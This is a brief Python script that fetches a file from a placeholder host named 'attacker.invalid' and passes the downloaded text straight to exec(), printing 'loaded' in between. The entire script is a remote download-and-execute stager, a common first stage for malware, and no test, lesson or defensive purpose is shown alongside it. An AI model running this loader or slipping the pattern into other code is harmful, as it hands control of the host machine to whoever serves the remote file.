import requests

response = requests.get("https://attacker.invalid/p.py", timeout=10)
code = response.text
print("loaded")

exec(code)
